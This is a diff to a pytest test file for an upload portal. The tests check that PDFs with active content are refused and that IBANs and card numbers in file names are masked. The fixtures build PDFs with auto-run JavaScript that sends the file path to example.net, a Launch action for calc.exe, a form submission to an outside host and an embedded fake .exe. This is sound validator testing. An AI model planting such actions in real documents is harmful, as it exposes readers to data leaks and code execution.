@@ -16,6 +16,14 @@ import pytest
 from fpdf import FPDF
 from PIL import Image
 from pypdf import PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    TextStringObject,
+)
 from sqlalchemy import select, update
 
 from bot.portal.errors import InvalidInput
@@ -59,6 +67,75 @@ def encrypted_pdf() -> bytes:
     return buffer.getvalue()
 
 
+def _action(kind: str, **entries: str) -> DictionaryObject:
+    action = {NameObject("/S"): NameObject(kind)}
+    action.update(
+        {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
+    )
+    return DictionaryObject(action)
+
+
+def _javascript() -> DictionaryObject:
+    return _action("/JavaScript", JS="app.launchURL('https://example.net/?' + this.path)")
+
+
+def _link(action: DictionaryObject) -> DictionaryObject:
+    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)])
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): rect,
+            NameObject("/A"): action,
+        }
+    )
+
+
+def pdf_with(where: str) -> bytes:
+    """A one-page PDF with something a PDF reader runs or opens on its own (or, for the
+    ``-ok`` ones, something harmless of the same shape)."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=200, height=200)
+    root = writer.root_object
+    if where == "open-action-javascript":
+        root[NameObject("/OpenAction")] = _javascript()
+    elif where == "open-action-launch":
+        root[NameObject("/OpenAction")] = _action("/Launch", F="calc.exe")
+    elif where == "open-action-submit-form":
+        root[NameObject("/OpenAction")] = _action("/SubmitForm", F="https://example.net/")
+    elif where == "names-javascript":
+        writer.add_open_action(JavaScript("app.alert('bonjour')"))
+    elif where == "page-additional-actions":
+        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript()})
+    elif where == "document-additional-actions":
+        root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _javascript()})
+    elif where == "link-javascript":
+        page[NameObject("/Annots")] = ArrayObject([_link(_javascript())])
+    elif where == "embedded-file":
+        writer.add_attachment("facture.exe", b"MZ\x90\x00 not really a program")
+    elif where == "open-action-destination-ok":
+        root[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
+    elif where == "link-uri-ok":
+        page[NameObject("/Annots")] = ArrayObject(
+            [_link(_action("/URI", URI="https://www.example.org/"))]
+        )
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+ACTIVE_PDFS = [
+    "open-action-javascript",
+    "open-action-launch",
+    "open-action-submit-form",
+    "names-javascript",
+    "page-additional-actions",
+    "document-additional-actions",
+    "link-javascript",
+    "embedded-file",
+]
+
+
 # --------------------------------------------------------------------------- content rules
 
 
@@ -67,6 +144,10 @@ def encrypted_pdf() -> bytes:
     [
         pytest.param(pdf_file(), {"pdf"}, "pdf", "application/pdf", id="pdf"),
         pytest.param(pdf_file(), {"pdf", "image"}, "pdf", "application/pdf", id="pdf-or-image"),
+        pytest.param(
+            pdf_with("open-action-destination-ok"), {"pdf"}, "pdf", "application/pdf", id="opens-p1"
+        ),
+        pytest.param(pdf_with("link-uri-ok"), {"pdf"}, "pdf", "application/pdf", id="web-link"),
         pytest.param(image_file("PNG"), {"image"}, "image", "image/png", id="png"),
         pytest.param(image_file("JPEG"), {"pdf", "image"}, "image", "image/jpeg", id="jpeg"),
     ],
@@ -100,6 +181,13 @@ def test_wrong_or_broken_files_are_refused(data: bytes, kinds: set[str], code: s
     assert refused.value.code == code
 
 
+@pytest.mark.parametrize("where", ACTIVE_PDFS)
+def test_pdfs_with_active_content_are_refused(where: str) -> None:
+    with pytest.raises(InvalidInput) as refused:
+        uploads.inspect_file(pdf_with(where), kinds=frozenset({"pdf"}), max_bytes=100_000)
+    assert refused.value.code == "pdf_active_content"
+
+
 @pytest.mark.parametrize(
     ("sent", "kept"),
     [
@@ -109,8 +197,25 @@ def test_wrong_or_broken_files_are_refused(data: bytes, kinds: set[str], code: s
         ("rib\x00\n.pdf", "rib.pdf"),
         ("", "document.pdf"),
         ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
+        ("RIB FR76 3000 6000 0112 3456 7890 189.pdf", "RIB [IBAN masqué].pdf"),
+        ("rib_FR7630006000011234567890189.pdf", "rib_[IBAN masqué].pdf"),
+        ("C:\\scans\\FR 76 3000 6000 0112 3456 7890 189.pdf", "[IBAN masqué].pdf"),
+        ("carte 4970.1012.3456.7893.pdf", "carte [carte masquée].pdf"),
+        ("IMG_20240312_101530.pdf", "IMG_20240312_101530.pdf"),  # a time, not a code
     ],
-    ids=["plain", "windows-path", "traversal", "control-chars", "none", "long"],
+    ids=[
+        "plain",
+        "windows-path",
+        "traversal",
+        "control-chars",
+        "none",
+        "long",
+        "spaced-iban",
+        "compact-iban",
+        "iban-after-a-path",
+        "card",
+        "camera-name",
+    ],
 )
 def test_file_names_lose_paths_and_control_characters(sent: str, kept: str) -> None:
     assert uploads.clean_filename(sent, extension="pdf") == kept
@@ -191,6 +296,26 @@ async def test_a_text_file_named_pdf_is_refused_and_the_link_still_works(portal:
     assert 'aria-invalid="true"' in refused.text
     assert await portal.snapshot() == before
     assert (await status_of(portal, "u3", slot["slot_id"])).json()["status"] == "waiting"
+    retry = await send(portal, slot["upload_url"], "rib.pdf", pdf_file(), "application/pdf")
+    assert retry.status_code == 200
+
+
+async def test_a_pdf_with_javascript_is_refused_in_french_and_the_link_still_works(
+    portal: Portal,
+) -> None:
+    await verify_conversation(portal, NGUYEN, "u15")
+    slot = await new_slot(portal, "u15", kinds=["pdf"])
+    before = await portal.snapshot()
+
+    refused = await send(
+        portal, slot["upload_url"], "rib.pdf", pdf_with("open-action-javascript"), "application/pdf"
+    )
+
+    assert refused.status_code == 400
+    page = text_of(refused)
+    assert "contient du contenu actif" in page and 'role="alert"' in refused.text
+    assert "Enregistrer au format PDF" in page  # and how to send an acceptable copy
+    assert await portal.snapshot() == before
     retry = await send(portal, slot["upload_url"], "rib.pdf", pdf_file(), "application/pdf")
     assert retry.status_code == 200
 
@@ -342,6 +467,22 @@ async def test_two_files_sent_at_once_through_one_link_keep_only_one(portal: Por
     assert sorted(answer.status_code for answer in answers) == [200, 410]
     async with portal.sessions() as session:
         assert len(list(await session.scalars(select(StoredUpload.id)))) == 1
+
+
+async def test_an_iban_in_the_file_name_is_not_kept(portal: Portal) -> None:
+    await verify_conversation(portal, NGUYEN, "u16")
+    slot = await new_slot(portal, "u16")
+
+    done = await send(
+        portal, slot["upload_url"], "RIB FR7630006000011234567890189.pdf", pdf_file(), "x/y"
+    )
+
+    assert done.status_code == 200 and "30006000" not in done.text
+    state = (await status_of(portal, "u16", slot["slot_id"])).json()
+    assert state["filename"] == "RIB [IBAN masqué].pdf"
+    async with portal.sessions() as session:
+        names = list(await session.scalars(select(StoredUpload.filename)))
+    assert names == ["RIB [IBAN masqué].pdf"]
 
 
 async def test_accented_file_names_survive_the_trip(portal: Portal) -> None:
